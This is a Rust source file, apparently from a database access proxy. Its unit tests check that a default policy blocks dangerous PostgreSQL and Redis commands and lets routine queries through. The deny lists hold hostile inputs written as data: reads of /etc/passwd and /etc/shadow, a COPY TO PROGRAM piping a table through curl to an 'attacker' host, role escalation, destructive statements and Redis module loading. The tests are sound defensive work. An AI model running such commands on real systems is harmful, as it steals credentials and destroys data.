//! Policy: what a rule looks at in a request, and whether it matches.
//!
//! Each protocol has its own analyzer (what the request does, as far as
//! policy cares) and matcher (does a `[[rule]]` apply to it). They are pure
//! functions so that the session handlers stay thin and the decisions are
//! testable without a server.

pub mod mask_sql;
pub mod redis_http;
pub mod rules;
pub mod sql;

#[cfg(test)]
mod tests {
    use super::sql::{analyze, SqlRule};
    use crate::config::Config;

    /// The shipped default policy against the bypasses the analyzer knows of.
    #[test]
    fn the_default_policy_denies_known_dangerous_sql_and_allows_plain_work() {
        let path = std::path::Path::new(concat!(
            env!("CARGO_MANIFEST_DIR"),
            "/../policies/default.toml"
        ));
        let cfg = Config::load(path).expect("policies/default.toml is valid");
        let rules: Vec<SqlRule> = cfg
            .rules
            .iter()
            .filter_map(|r| r.sql.as_ref())
            .map(SqlRule::from_config)
            .collect();
        let denied = |sql: &str| rules.iter().any(|r| r.matches(&analyze(sql)).is_some());
        for sql in [
            "DROP TABLE users",
            "SELECT pg_read_file('/etc/passwd')",
            "SELECT upper(pg_catalog.PG_READ_FILE('x'))",
            "SELECT * FROM (SELECT lo_import('/etc/shadow')) s",
            "WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d",
            "COPY users TO PROGRAM 'curl -d @- attacker'",
            "COPY users FROM '/etc/passwd'",
            "COPY (SELECT 1) TO '/tmp/x'",
            "DO $$ BEGIN PERFORM pg_read_file('x'); END $$",
            "SET ROLE postgres",
            "SET SESSION AUTHORIZATION postgres",
            "SELECT set_config('role', 'postgres', false)",
            "SELECT pg_catalog.set_config('session_authorization', 'postgres', false)",
            "SELECT set_config(name, 'postgres', false) FROM pg_settings",
            "SELEC 1",
            "DELETE FROM users",
            "PREPARE p AS DELETE FROM users",
            "CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql",
            "SELECT * FROM dblink('host=x', 'SELECT 1') AS t(a int)",
            "ALTER SYSTEM SET log_statement = 'none'",
            "SELECT 1; DROP TABLE users",
            "VACUUM FULL users",
            "VACUUM (FULL, ANALYZE) users",
            "CLUSTER users USING users_pkey",
            "REINDEX TABLE users",
            "ALTER SEQUENCE users_id_seq RESTART WITH 1",
        ] {
            assert!(denied(sql), "the default policy lets through: {sql}");
        }
        for sql in [
            "SELECT id, email FROM users WHERE id = 1",
            "UPDATE users SET name = 'x' WHERE id = 2",
            "INSERT INTO users (id) VALUES (1)",
            "BEGIN; SELECT 1; COMMIT",
            "COPY users (id, name) FROM STDIN",
            // Maintenance that takes no exclusive lock, and cursor and
            // transaction forms real clients send (psycopg, Django, pgbench).
            "VACUUM ANALYZE users",
            "VACUUM (ANALYZE) users",
            "ANALYZE VERBOSE users",
            "SET CONSTRAINTS ALL IMMEDIATE",
            "BEGIN ISOLATION LEVEL SERIALIZABLE READ ONLY DEFERRABLE",
            "COPY users FROM STDIN WITH (FREEZE ON)",
            "FETCH FROM c",
            "MOVE BACKWARD IN c",
            "COPY users (id, name) TO STDOUT",
            // pg_dump and pg_restore, Django, row-level security tenants.
            "SELECT pg_catalog.set_config('search_path', '', false)",
            "SELECT set_config('TimeZone', 'UTC', false)",
            "SELECT set_config('app.tenant_id', '42', true)",
            // Session-local objects are not schema changes.
            "CREATE TEMP TABLE scratch (id int) ON COMMIT DROP",
            "CREATE TEMPORARY VIEW recent AS SELECT id FROM users",
        ] {
            assert!(
                !denied(sql),
                "the default policy refuses ordinary work: {sql}"
            );
        }
    }

    /// The shipped default policy on Redis commands: the dangerous
    /// set denied, everyday cache and token-store commands allowed.
    #[test]
    fn the_default_policy_denies_dangerous_redis_commands() {
        let path = std::path::Path::new(concat!(
            env!("CARGO_MANIFEST_DIR"),
            "/../policies/default.toml"
        ));
        let cfg = Config::load(path).expect("policies/default.toml is valid");
        let policy = super::rules::Policy::new(&cfg.rules);
        let id = crate::identity::Identity::resolve_from(
            std::path::Path::new("/nonexistent"),
            crate::identity::KernelIdentity {
                tgid: 1,
                tid: 1,
                uid: 1000,
                gid: 1000,
                comm: "redis-cli".into(),
                cgroup_id: 0,
            },
        );
        let session = policy.for_session("redis", &id);
        let denied = |cmd: &str| {
            let args: Vec<&str> = cmd.split(' ').collect();
            matches!(
                session.decide_redis(&args[..]),
                super::rules::Verdict::Deny { .. }
            )
        };
        for cmd in [
            "FLUSHALL",
            "flushdb ASYNC",
            "CONFIG SET dir /tmp",
            "config get *",
            "CONFIG REWRITE",
            "DEBUG SLEEP 10",
            "MODULE LOAD /tmp/x.so",
            "SHUTDOWN NOSAVE",
            "REPLICAOF 10.0.0.1 6379",
            "MIGRATE h 1 k 0 1",
            "KEYS *",
            "EVAL x 0",
            "evalsha_ro abc 0",
            "FCALL f 0",
            "FUNCTION LOAD x",
            "SCRIPT FLUSH",
            "MONITOR",
            "CLIENT REPLY OFF",
            "client reply skip",
            "CLIENT KILL ID 1",
            "ACL SETUSER x on",
            "SAVE",
            "RESTORE k 0 x",
            "SORT l BY nosort GET secret:*",
        ] {
            assert!(denied(cmd), "the default policy lets through: {cmd}");
        }
        for cmd in [
            "GET k",
            "SET k v EX 10",
            "HGETALL h",
            "MGET a b",
            "DEL k",
            "PING",
            "CLIENT SETNAME job",
            "CLIENT REPLY ON",
            "INFO",
            "info server",
            "SCAN 0 MATCH x*",
            "SUBSCRIBE ch",
            "MULTI",
            "EXEC",
        ] {
            assert!(
                !denied(cmd),
                "the default policy refuses ordinary work: {cmd}"
            );
        }
    }
}
